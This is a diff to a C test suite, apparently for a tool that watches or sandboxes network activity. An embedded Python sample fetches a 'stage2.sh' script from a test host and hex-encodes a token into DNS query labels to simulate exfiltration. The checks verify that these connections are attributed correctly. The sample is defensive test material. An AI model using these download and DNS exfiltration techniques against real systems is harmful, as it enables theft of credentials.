@@ -265,7 +265,9 @@ static const char exfil_script[] =
     "s.sendall(b'GET /stage2.sh HTTP/1.1\\r\\nHost: v6.example.test\\r\\n\\r\\n')\n"
     "r = readall(s)\n"
     "s.close()\n"
-    "print('HTTP6', r.split(b'\\r\\n')[0].decode(), r.endswith(b'#!/bin/sh\\nexit 0\\n'))\n"
+    "body = r.split(b'\\r\\n\\r\\n', 1)[-1]\n"
+    "print('HTTP6', r.split(b'\\r\\n')[0].decode(),\n"
+    "      body.startswith(b'#!/bin/sh\\nexit 0\\n#') and len(body) == 4096)\n"
     "hx = tok.encode().hex()\n"
     "name = hx[:40] + '.' + hx[40:] + '.d.example.test'\n"
     "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
@@ -642,7 +644,7 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
                        "/stage2.sh")) != NULL,
         "GET /stage2.sh attributed to v6.example.test");
   CHECK(strstr(out, "HTTP6 HTTP/1.1 200 OK True\n") != NULL,
-        "the sample got a harmless shell script");
+        "the sample got a harmless shell script, padded to 4 KiB");
 
   /* 7. DNS over TCP with the token hex-encoded across labels. */
   char hx[65], qname[128];
